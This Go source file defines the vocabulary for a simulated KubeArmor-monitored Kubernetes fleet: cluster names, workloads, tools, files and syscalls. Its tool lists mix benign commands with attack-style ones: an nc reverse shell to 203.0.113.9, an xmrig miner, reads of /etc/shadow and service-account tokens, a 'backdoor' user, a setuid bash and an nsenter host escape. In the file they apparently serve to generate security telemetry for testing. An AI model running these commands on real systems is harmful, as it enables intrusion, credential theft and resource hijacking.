package sim

// The vocabulary the simulated fleet is drawn from: names, executables,
// paths and policy shapes seen in real KubeArmor deployments. The seed
// picks subsets and combinations; these lists only bound what can appear.

var clusterNames = []string{
	"default", "prod-eu-west-1", "prod-us-east-2", "edge-site-042", "factory-lyon",
	"retail-store-1187", "staging", "gke-prod-1", "aks-payments", "k3s-edge-7",
}

// hostStyles name nodes the way the managed platforms do; %-free
// templates are filled by world.go.
const (
	hostAKS = iota
	hostGKE
	hostEKS
	hostBare
	hostStyleCount
)

var namespaceNames = []string{
	"kube-system", "default", "monitoring", "ingress-nginx", "cert-manager",
	"kubearmor", "logging", "istio-system", "argocd", "payments", "checkout",
	"catalog", "identity", "search", "orders", "shipping", "notifications",
	"analytics", "data-pipeline", "wordpress-mysql", "vault", "keycloak",
	"gitlab-runner", "ml-serving", "edge-gateway", "telemetry", "billing",
	"inventory", "media", "recommendations", "fraud-detection", "crm",
	"support", "reporting", "batch-jobs", "sandbox",
}

// apps are the workloads a namespace can run. exe and args make the main
// process's command line; image is the public image, or "" for an
// in-house image built from the app name.
type appKind struct {
	name  string
	exe   string
	args  string
	image string
	tag   string
	port  int
	cwd   string
	uid   int32
	state bool // StatefulSet rather than Deployment
}

var infraApps = []appKind{
	{"nginx", "/usr/sbin/nginx", "-g daemon off;", "docker.io/library/nginx", "1.25.4", 80, "/", 101, false},
	{"redis", "/usr/local/bin/redis-server", "*:6379", "docker.io/library/redis", "7.2.4-alpine", 6379, "/data", 999, true},
	{"postgres", "/usr/lib/postgresql/16/bin/postgres", "-D /var/lib/postgresql/data", "docker.io/library/postgres", "16.2", 5432, "/var/lib/postgresql", 999, true},
	{"mysql", "/usr/sbin/mysqld", "--datadir=/var/lib/mysql", "docker.io/library/mysql", "8.0.36", 3306, "/", 999, true},
	{"wordpress", "/usr/sbin/apache2", "-DFOREGROUND", "docker.io/library/wordpress", "6.4-apache", 80, "/var/www/html", 33, false},
	{"vault", "/bin/vault", "server -config=/vault/config", "docker.io/hashicorp/vault", "1.13.1", 8200, "/", 100, true},
	{"keycloak", "/opt/java/openjdk/bin/java", "-Dkc.home.dir=/opt/keycloak -jar /opt/keycloak/lib/quarkus-run.jar start", "quay.io/keycloak/keycloak", "24.0.1", 8080, "/opt/keycloak", 1000, false},
	{"prometheus", "/bin/prometheus", "--config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus", "quay.io/prometheus/prometheus", "v2.51.0", 9090, "/prometheus", 65534, true},
	{"grafana", "/usr/share/grafana/bin/grafana", "server --homepath=/usr/share/grafana", "docker.io/grafana/grafana", "10.4.1", 3000, "/usr/share/grafana", 472, false},
	{"alertmanager", "/bin/alertmanager", "--config.file=/etc/alertmanager/config.yml", "quay.io/prometheus/alertmanager", "v0.27.0", 9093, "/alertmanager", 65534, true},
	{"coredns", "/coredns", "-conf /etc/coredns/Corefile", "registry.k8s.io/coredns/coredns", "v1.11.1", 53, "/", 0, false},
	{"ingress-nginx-controller", "/nginx-ingress-controller", "--publish-service=ingress-nginx/ingress-nginx-controller --election-id=ingress-nginx-leader", "registry.k8s.io/ingress-nginx/controller", "v1.10.0", 443, "/etc/nginx", 101, false},
	{"cert-manager", "/app/cmd/controller/controller", "--v=2 --cluster-resource-namespace=$(POD_NAMESPACE)", "quay.io/jetstack/cert-manager-controller", "v1.14.4", 9402, "/", 1000, false},
	{"argocd-server", "/usr/local/bin/argocd-server", "--insecure", "quay.io/argoproj/argocd", "v2.10.4", 8080, "/home/argocd", 999, false},
	{"rabbitmq", "/opt/erlang/lib/erlang/erts-13.2/bin/beam.smp", "-W w -MBas ageffcbf -- -root /opt/erlang/lib/erlang -progname erl", "docker.io/library/rabbitmq", "3.13-management", 5672, "/var/lib/rabbitmq", 999, true},
	{"kafka", "/opt/java/openjdk/bin/java", "-Xmx1G -Xms1G -server kafka.Kafka /opt/kafka/config/server.properties", "docker.io/bitnami/kafka", "3.7.0", 9092, "/opt/bitnami/kafka", 1001, true},
	{"elasticsearch", "/usr/share/elasticsearch/jdk/bin/java", "-Xms2g -Xmx2g org.elasticsearch.bootstrap.Elasticsearch", "docker.elastic.co/elasticsearch/elasticsearch", "8.13.0", 9200, "/usr/share/elasticsearch", 1000, true},
	{"mongodb", "/usr/bin/mongod", "--bind_ip_all --replSet rs0", "docker.io/library/mongo", "7.0.7", 27017, "/data/db", 999, true},
	{"memcached", "/usr/local/bin/memcached", "-m 512 -p 11211", "docker.io/library/memcached", "1.6.26-alpine", 11211, "/", 11211, false},
	{"minio", "/usr/bin/minio", "server /data --console-address :9001", "quay.io/minio/minio", "RELEASE.2024-03-30T09-41-56Z", 9000, "/", 1000, true},
	{"gitlab-runner", "/usr/bin/gitlab-runner", "run --user=gitlab-runner --working-directory=/home/gitlab-runner", "docker.io/gitlab/gitlab-runner", "v16.10.0", 9252, "/home/gitlab-runner", 999, false},
}

// Runtimes for in-house apps: main executable and argument shape.
var runtimes = []struct {
	exe, args, base string
	cwd             string
}{
	{"/usr/local/bin/python3.11", "-m gunicorn app.main:app -b 0.0.0.0:8080 -w 4", "docker.io/library/python:3.11-slim", "/app"},
	{"/usr/local/bin/python3.12", "/app/worker.py --queue default", "docker.io/library/python:3.12-slim", "/app"},
	{"/opt/java/openjdk/bin/java", "-XX:MaxRAMPercentage=75 -jar /app/app.jar", "docker.io/library/eclipse-temurin:21-jre", "/app"},
	{"/usr/local/bin/node", "/app/dist/server.js", "docker.io/library/node:20-alpine", "/app"},
	{"/app/server", "--config /etc/app/config.yaml", "gcr.io/distroless/static-debian12", "/"},
	{"/usr/local/bin/app", "serve --port 8080", "docker.io/library/alpine:3.19", "/"},
	{"/usr/bin/dotnet", "/app/Service.dll", "mcr.microsoft.com/dotnet/aspnet:8.0", "/app"},
	{"/usr/local/bin/ruby", "/usr/local/bundle/bin/puma -C config/puma.rb", "docker.io/library/ruby:3.3-slim", "/rails"},
	{"/usr/local/sbin/php-fpm", "--nodaemonize", "docker.io/library/php:8.3-fpm", "/var/www/html"},
}

var appWords = []string{
	"api", "gateway", "worker", "frontend", "backend", "auth", "cart", "payments",
	"orders", "search", "catalog", "inventory", "users", "profile", "billing",
	"invoice", "ledger", "notifier", "mailer", "scheduler", "indexer", "ingestor",
	"exporter", "reporter", "pricing", "quote", "fraud", "risk", "ranking",
	"recommender", "media", "thumbnail", "upload", "shipping", "tracking",
	"webhook", "events", "stream", "session", "token", "ws", "graphql", "admin",
}

var appSuffixes = []string{"", "-service", "-svc", "-api", "-worker", "-consumer", "-v2", "-server"}

// sidecars are extra containers some pods run beside the app.
var sidecars = []appKind{
	{"istio-proxy", "/usr/local/bin/envoy", "-c /etc/istio/proxy/envoy-rev.json --drain-time-s 45", "docker.io/istio/proxyv2", "1.21.0", 15001, "/", 1337, false},
	{"linkerd-proxy", "/usr/lib/linkerd/linkerd2-proxy", "", "cr.l5d.io/linkerd/proxy", "stable-2.14.10", 4143, "/", 2102, false},
	{"fluent-bit", "/fluent-bit/bin/fluent-bit", "-c /fluent-bit/etc/fluent-bit.conf", "cr.fluentbit.io/fluent/fluent-bit", "3.0.0", 2020, "/", 0, false},
	{"vault-agent", "/bin/vault", "agent -config=/vault/configs/config.hcl", "docker.io/hashicorp/vault", "1.15.6", 8200, "/", 100, false},
	{"cloudsql-proxy", "/cloud-sql-proxy", "--port 5432 project:region:instance", "gcr.io/cloud-sql-connectors/cloud-sql-proxy", "2.9.0", 5432, "/", 65532, false},
	{"otel-collector", "/otelcol-contrib", "--config=/conf/relay.yaml", "docker.io/otel/opentelemetry-collector-contrib", "0.97.0", 4317, "/", 10001, false},
}

// daemonSets run one pod per node.
var daemonSets = []appKind{
	{"kubearmor", "/KubeArmor/kubearmor", "-gRPC=32767 -logPath=none -enableKubeArmorHostPolicy", "docker.io/kubearmor/kubearmor", "v1.4.2", 32767, "/KubeArmor", 0, false},
	{"kube-proxy", "/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf --hostname-override=$(NODE_NAME)", "registry.k8s.io/kube-proxy", "v1.29.3", 10249, "/", 0, false},
	{"fluent-bit", "/fluent-bit/bin/fluent-bit", "-c /fluent-bit/etc/fluent-bit.conf", "cr.fluentbit.io/fluent/fluent-bit", "3.0.0", 2020, "/", 0, false},
	{"node-exporter", "/bin/node_exporter", "--path.procfs=/host/proc --path.sysfs=/host/sys", "quay.io/prometheus/node-exporter", "v1.7.0", 9100, "/", 65534, false},
	{"calico-node", "/usr/bin/calico-node", "-felix", "docker.io/calico/node", "v3.27.2", 9091, "/", 0, false},
	{"cilium", "/usr/bin/cilium-agent", "--config-dir=/tmp/cilium/config-map", "quay.io/cilium/cilium", "v1.15.3", 9962, "/home/cilium", 0, false},
}

var companyRegistries = []string{
	"ghcr.io/acme-corp", "registry.gitlab.com/acme/platform", "123456789012.dkr.ecr.eu-west-1.amazonaws.com",
	"europe-docker.pkg.dev/acme-prod/apps", "acmecr.azurecr.io", "harbor.acme.internal/apps",
}

// Tools run inside containers: shells, package managers, diagnostics.
// args are alternatives; one is chosen when the process is spawned.
type tool struct {
	exe  string
	args []string
}

var containerTools = []tool{
	{"/bin/sh", []string{"-c /app/healthcheck.sh", "-c sleep 5", "-c 'cat /proc/1/status'", "", "-c date"}},
	{"/bin/bash", []string{"", "-l", "-c /docker-entrypoint.sh", "-c 'env | sort'"}},
	{"/usr/bin/curl", []string{"-sf http://localhost:8080/healthz", "-s https://api.github.com/", "google.com", "-o /tmp/x.tgz https://github.com/x/y/releases/download/v1/x.tgz", "-s http://169.254.169.254/latest/meta-data/"}},
	{"/usr/bin/wget", []string{"-qO- http://localhost:9090/-/ready", "-q http://example.com/install.sh"}},
	{"/bin/cat", []string{"/etc/passwd", "/proc/self/mountinfo", "/etc/os-release", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/hosts"}},
	{"/bin/ls", []string{"-la", "/", "-la /tmp", "/var/run/secrets/kubernetes.io/serviceaccount"}},
	{"/bin/ps", []string{"aux", "-ef"}},
	{"/usr/bin/env", []string{""}},
	{"/bin/grep", []string{"-r password /app", "-i error /var/log/app.log"}},
	{"/usr/bin/find", []string{"/ -perm -4000", "/tmp -mtime +1 -delete", "/app -name '*.pyc'"}},
	{"/bin/sleep", []string{"1", "5", "10", "30", "3600"}},
	{"/usr/bin/apt", []string{"update", "install -y netcat"}},
	{"/usr/bin/apt-get", []string{"update", "install -y curl", "install -y nmap"}},
	{"/sbin/apk", []string{"add --no-cache curl", "update"}},
	{"/usr/bin/python3", []string{"-c 'import socket'", "-m http.server 8000", "-m pydoc"}},
	{"/usr/bin/perl", []string{"-e 'print 1'"}},
	{"/bin/tar", []string{"-xzf /tmp/x.tgz -C /tmp", "-czf /tmp/backup.tgz /data"}},
	{"/bin/gzip", []string{"-d /tmp/dump.sql.gz"}},
	{"/usr/bin/id", []string{"", "-u"}},
	{"/usr/bin/whoami", []string{""}},
	{"/bin/hostname", []string{"", "-i"}},
	{"/usr/bin/nc", []string{"-zv 10.0.0.1 22", "-l -p 4444", "-e /bin/sh 203.0.113.9 4444"}},
	{"/usr/bin/nslookup", []string{"kubernetes.default", "google.com"}},
	{"/usr/bin/dig", []string{"+short kubernetes.default.svc.cluster.local"}},
	{"/bin/mount", []string{"", "-t proc proc /proc"}},
	{"/bin/chmod", []string{"+x /tmp/run.sh", "777 /tmp", "u+s /bin/bash"}},
	{"/bin/chown", []string{"-R app:app /data"}},
	{"/bin/rm", []string{"-rf /tmp/cache", "/sbin/raw", "-f /var/log/app.log"}},
	{"/bin/cp", []string{"/etc/passwd /tmp/p", "-r /app/static /var/www"}},
	{"/bin/mv", []string{"/tmp/upload.part /data/upload"}},
	{"/usr/bin/openssl", []string{"s_client -connect db:5432", "rand -hex 16", "x509 -in /etc/tls/tls.crt -noout -dates"}},
	{"/usr/bin/git", []string{"pull", "clone https://github.com/acme/config.git /tmp/config"}},
	{"/usr/bin/ssh", []string{"-o StrictHostKeyChecking=no root@10.0.3.4"}},
	{"/usr/bin/top", []string{"-b -n 1"}},
	{"/usr/bin/awk", []string{"'{print $1}' /proc/loadavg"}},
	{"/bin/sed", []string{"-i s/debug/info/ /app/config.yaml"}},
	{"/usr/bin/xargs", []string{"-n1 kill"}},
	{"/usr/bin/head", []string{"-c 32 /dev/urandom"}},
	{"/usr/bin/tail", []string{"-f /var/log/app.log", "-n 100 /var/log/nginx/access.log"}},
	{"/bin/date", []string{"", "+%s"}},
	{"/usr/bin/du", []string{"-sh /data"}},
	{"/bin/df", []string{"-h"}},
	{"/usr/bin/sha256sum", []string{"/app/app.jar"}},
	{"/usr/bin/base64", []string{"-d /tmp/payload"}},
	{"/usr/bin/jq", []string{". /tmp/config.json"}},
	{"/usr/bin/vi", []string{"/etc/hosts"}},
	{"/bin/kill", []string{"-HUP 1", "-9 42"}},
	{"/usr/bin/touch", []string{"/tmp/ready", "/data/.lock"}},
	{"/bin/mkdir", []string{"-p /tmp/work"}},
	{"/usr/bin/stat", []string{"/app"}},
	{"/bin/uname", []string{"-a"}},
	{"/usr/bin/getent", []string{"hosts db"}},
	{"/usr/bin/ldd", []string{"/app/server"}},
	{"/usr/bin/pg_dump", []string{"-h postgres -U app appdb"}},
	{"/usr/bin/mysqldump", []string{"-h mysql -u root --all-databases"}},
	{"/usr/local/bin/redis-cli", []string{"-h redis ping", "-h redis info"}},
	{"/usr/bin/nmap", []string{"-sT 10.0.0.0/24"}},
	{"/tmp/xmrig", []string{"-o pool.minexmr.com:4444 -u 4A..."}},
	{"/dev/shm/.x", []string{""}},
	{"/usr/bin/dpkg", []string{"-l", "-i /tmp/pkg.deb"}},
	{"/usr/bin/crontab", []string{"-l"}},
	{"/usr/bin/timeout", []string{"5 /app/healthcheck.sh"}},
	{"/app/healthcheck.sh", []string{""}},
	{"/docker-entrypoint.sh", []string{"nginx -g 'daemon off;'"}},
	{"/usr/bin/pgrep", []string{"-f gunicorn"}},
	{"/usr/bin/tr", []string{"-d '\\n'"}},
	{"/usr/bin/wc", []string{"-l /var/log/app.log"}},
	{"/usr/bin/sort", []string{"-u"}},
	{"/usr/bin/tee", []string{"/tmp/out.log"}},
}

// hostTools are node processes outside any container.
var hostTools = []tool{
	{"/usr/bin/containerd", []string{"", "--address /run/containerd/containerd.sock publish --topic /tasks/exit --namespace k8s.io"}},
	{"/usr/bin/kubelet", []string{"--config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock"}},
	{"/usr/lib/systemd/systemd", []string{"--system --deserialize 31", "--user"}},
	{"/usr/lib/systemd/systemd-journald", []string{""}},
	{"/usr/lib/systemd/systemd-networkd", []string{""}},
	{"/usr/lib/systemd/systemd-resolved", []string{""}},
	{"/usr/lib/systemd/systemd-logind", []string{""}},
	{"/usr/lib/systemd/systemd-udevd", []string{""}},
	{"/usr/sbin/sshd", []string{"-D", "-D -R"}},
	{"/usr/sbin/cron", []string{"-f"}},
	{"/usr/sbin/rsyslogd", []string{"-n -iNONE"}},
	{"/usr/sbin/chronyd", []string{"-F 1"}},
	{"/usr/bin/sudo", []string{"-i", "systemctl restart kubelet", "cat /etc/shadow"}},
	{"/usr/bin/apt-get", []string{"update", "-y upgrade"}},
	{"/usr/bin/python3", []string{"/usr/bin/unattended-upgrade", "/usr/bin/networkd-dispatcher --run-startup-triggers"}},
	{"/usr/bin/bash", []string{"", "/etc/cron.daily/logrotate", "/usr/local/bin/backup.sh"}},
	{"/usr/sbin/iptables", []string{"-w 5 -t nat -S", "-L -n"}},
	{"/usr/sbin/xtables-nft-multi", []string{"iptables -w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle"}},
	{"/usr/bin/runc", []string{"--root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/log.json init"}},
	{"/usr/sbin/logrotate", []string{"/etc/logrotate.conf"}},
	{"/usr/lib/snapd/snapd", []string{""}},
	{"/usr/bin/dbus-daemon", []string{"--system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only"}},
	{"/usr/sbin/irqbalance", []string{"--foreground"}},
	{"/usr/sbin/conntrack", []string{"-D -p udp --orig-dst 10.96.0.10"}},
	{"/usr/sbin/ip", []string{"-o link show", "route"}},
	{"/usr/bin/mount", []string{"-t tmpfs tmpfs /var/lib/kubelet/pods/x/volumes"}},
	{"/usr/bin/ps", []string{"-ef"}},
	{"/usr/bin/cat", []string{"/etc/shadow", "/proc/meminfo"}},
	{"/usr/bin/journalctl", []string{"-u kubelet -n 100"}},
	{"/usr/bin/systemctl", []string{"status kubelet", "restart containerd"}},
	{"/usr/sbin/agetty", []string{"-o -p -- \\u --noclear tty1 linux"}},
	{"/usr/bin/nsenter", []string{"-t 1 -m -u -i -n -p -- /bin/sh"}},
	{"/usr/bin/containerd-shim-runc-v2", []string{"-namespace k8s.io -id x -address /run/containerd/containerd.sock"}},
	{"/usr/sbin/modprobe", []string{"-q -- nf_conntrack", "br_netfilter"}},
	{"/usr/bin/sleep", []string{"10", "60"}},
	{"/usr/bin/curl", []string{"-s http://169.254.169.254/latest/meta-data/instance-id"}},
	{"/usr/bin/docker", []string{"ps"}},
	{"/usr/sbin/useradd", []string{"-m backdoor"}},
	{"/usr/bin/passwd", []string{"root"}},
	{"/usr/sbin/tcpdump", []string{"-i any port 53"}},
	{"/usr/bin/find", []string{"/var/log -name '*.gz' -mtime +7 -delete"}},
	{"/usr/bin/awk", []string{"'{print $2}' /proc/net/dev"}},
	{"/usr/bin/gzip", []string{"-9 /var/log/syslog.1"}},
	{"/usr/lib/apt/methods/http", []string{""}},
	{"/usr/sbin/dhclient", []string{"-4 -v -i -pf /run/dhclient.eth0.pid eth0"}},
	{"/usr/bin/google_guest_agent", []string{""}},
	{"/usr/bin/amazon-ssm-agent", []string{""}},
	{"/usr/sbin/auditd", []string{""}},
	{"/usr/sbin/nscd", []string{""}},
}

// hostUsers run host processes, in the working directory cwd.
var hostUsers = []struct {
	name string
	uid  int32
	cwd  string
}{
	{"root", 0, "/"}, {"root", 0, "/"}, {"root", 0, "/"}, {"root", 0, "/"},
	{"ubuntu", 1000, "/home/ubuntu"}, {"ec2-user", 1000, "/home/ec2-user"},
	{"systemd-network", 100, "/home/systemd-network"}, {"systemd-resolve", 101, "/home/systemd-resolve"},
	{"syslog", 104, "/home/syslog"}, {"_chrony", 113, "/home/_chrony"},
	{"nobody", 65534, "/home/nobody"}, {"sshd", 204, "/home/sshd"}, {"admin", 1001, "/home/admin"},
}

// ptsNames are the TTYs of interactive shells.
var ptsNames = []string{"pts0", "pts1", "pts2", "pts3"}

// containerToolCmds and hostToolCmds hold the command line of each tool
// with each of its args, built once so that spawning a process does not.
var containerToolCmds, hostToolCmds = toolCmds(containerTools), toolCmds(hostTools)

func toolCmds(tools []tool) [][]string {
	cmds := make([][]string, len(tools))
	for i, t := range tools {
		for _, a := range t.args {
			cmds[i] = append(cmds[i], joinCmd(t.exe, a))
		}
	}
	return cmds
}

// hotFiles are read over and over by most processes.
var hotFiles = []string{
	"/etc/ld.so.cache",
	"/lib/x86_64-linux-gnu/libc.so.6",
	"/lib/x86_64-linux-gnu/libpthread.so.0",
	"/lib/x86_64-linux-gnu/libdl.so.2",
	"/lib/x86_64-linux-gnu/libm.so.6",
	"/lib/x86_64-linux-gnu/libssl.so.3",
	"/lib/x86_64-linux-gnu/libcrypto.so.3",
	"/lib/x86_64-linux-gnu/libz.so.1",
	"/lib/ld-musl-x86_64.so.1",
	"/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
	"/etc/resolv.conf",
	"/etc/hosts",
	"/etc/nsswitch.conf",
	"/etc/passwd",
	"/etc/group",
	"/etc/localtime",
	"/etc/ssl/certs/ca-certificates.crt",
	"/var/run/secrets/kubernetes.io/serviceaccount/token",
	"/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
	"/var/run/secrets/kubernetes.io/serviceaccount/namespace",
	"/proc/self/status",
	"/proc/self/cgroup",
	"/proc/self/mountinfo",
	"/proc/meminfo",
	"/proc/stat",
	"/proc/loadavg",
	"/sys/fs/cgroup/memory.max",
	"/sys/fs/cgroup/cpu.max",
	"/dev/null",
	"/dev/urandom",
	"/etc/os-release",
	"/usr/share/zoneinfo/UTC",
	"/etc/app/config.yaml",
	"/app/config/settings.json",
	"/etc/nginx/nginx.conf",
	"/etc/shadow",
	"/root/.bash_history",
	"/etc/sudoers",
	"/etc/crontab",
	"/root/.ssh/authorized_keys",
	"/usr/lib/python3.11/encodings/__init__.py",
	"/usr/local/lib/python3.11/site-packages/gunicorn/__init__.py",
	"/opt/java/openjdk/lib/modules",
	"/app/node_modules/express/index.js",
	"/var/lib/kubelet/config.yaml",
	"/run/containerd/containerd.sock",
	"/var/log/syslog",
	"/var/log/auth.log",
}

// fileSyscalls are the Data of File events, with the Result a failure gets.
var fileSyscalls = []string{
	"syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC",
	"syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC",
	"syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC",
	"syscall=SYS_OPENAT fd=-100 flags=O_RDONLY",
	"syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC",
	"syscall=SYS_OPENAT fd=-100 flags=O_RDWR|O_CREAT|O_CLOEXEC",
	"syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_APPEND",
	"syscall=SYS_OPEN flags=O_RDONLY",
	"syscall=SYS_UNLINKAT flags=",
	"syscall=SYS_UNLINK",
	"syscall=SYS_RMDIR",
}

var fileErrors = []string{"No such file or directory", "Permission denied", "Is a directory", "Not a directory", "Too many open files"}

var capabilities = []string{
	"CAP_NET_RAW", "CAP_NET_BIND_SERVICE", "CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_CHOWN",
	"CAP_DAC_OVERRIDE", "CAP_SETUID", "CAP_SETGID", "CAP_NET_ADMIN", "CAP_SYS_MODULE", "CAP_KILL",
}

var syscallOps = []string{
	"syscall=SYS_SETGID userid=0", "syscall=SYS_SETUID userid=0", "syscall=SYS_MOUNT",
	"syscall=SYS_UMOUNT2", "syscall=SYS_PTRACE request=PTRACE_ATTACH", "syscall=SYS_CHMOD mode=4755",
	"syscall=SYS_CHOWN userid=0 group=0", "syscall=SYS_UNSHARE", "syscall=SYS_INIT_MODULE",
}

var wellKnownPorts = []int{443, 443, 443, 80, 80, 53, 5432, 6379, 3306, 8080, 9090, 9092, 27017, 8200, 4317, 11211, 5672, 9200, 22, 2379, 6443, 10250}

var externalDomains = []string{
	"google.com", "api.github.com", "registry-1.docker.io", "s3.amazonaws.com", "sts.amazonaws.com",
	"storage.googleapis.com", "login.microsoftonline.com", "api.stripe.com", "hooks.slack.com",
	"sentry.io", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "pool.minexmr.com",
	"ocsp.digicert.com", "api.twilio.com", "smtp.sendgrid.net", "oauth2.googleapis.com",
}

var sockTypes = []string{
	"domain=AF_INET type=SOCK_STREAM|SOCK_NONBLOCK|SOCK_CLOEXEC protocol=0",
	"domain=AF_INET type=SOCK_DGRAM|SOCK_NONBLOCK|SOCK_CLOEXEC protocol=0",
	"domain=AF_INET6 type=SOCK_STREAM|SOCK_CLOEXEC protocol=6",
	"domain=AF_UNIX type=SOCK_STREAM|SOCK_NONBLOCK|SOCK_CLOEXEC protocol=0",
	"domain=AF_NETLINK type=SOCK_RAW|SOCK_CLOEXEC protocol=0",
	"domain=AF_INET type=SOCK_RAW protocol=1",
}

// tagSets are the compliance tags policies carry.
var tagSets = [][]string{
	{"NIST", "NIST_800-53_CM-7(4)", "SI-4", "process", "NIST_800-53_SI-4"},
	{"NIST", "NIST_800-53_AU-2", "NIST_800-53_SI-4", "MITRE", "MITRE_T1036_masquerading", "MITRE_T1565_data_manipulation"},
	{"MITRE", "MITRE_T1059_command_and_scripting_interpreter"},
	{"MITRE", "MITRE_TA0007_discovery", "MITRE_T1082_system_information_discovery"},
	{"CIS", "CIS_Linux", "CIS_5.4_Restrict_Access_to_Secrets"},
	{"PCI_DSS", "PCI_DSS_10.2.2", "NIST_800-53_AC-6"},
	{"MITRE", "MITRE_T1552_unsecured_credentials", "FGT1555", "FIGHT"},
	{"NIST", "NIST_800-53_SC-7", "network"},
	{"MITRE", "MITRE_T1496_resource_hijacking", "cryptominer"},
	{"CIS", "CIS_Kubernetes", "CIS_5.2.7_Minimize_root_containers"},
	{"STIG", "STIG_V-230264", "MITRE_T1548_abuse_elevation_control"},
	{"NIST", "NIST_800-190", "NIST_4.4.3_Container_runtime_misconfig"},
}

var messageTexts = []struct{ level, text string }{
	{"INFO", "Started to monitor system events"},
	{"INFO", "Detected a new container"},
	{"INFO", "Detected a removed container"},
	{"INFO", "Updated security policies"},
	{"INFO", "Updated host security policies"},
	{"INFO", "Added a new pod"},
	{"INFO", "Deleted a pod"},
	{"INFO", "Successfully attached a BPF program"},
	{"WARN", "Failed to attach kprobe security_path_chown (ignored)"},
	{"WARN", "Dropped events: per-container alert threshold reached"},
	{"ERROR", "Failed to read the container runtime socket"},
	{"INFO", "gRPC client connected"},
	{"INFO", "gRPC client disconnected"},
}
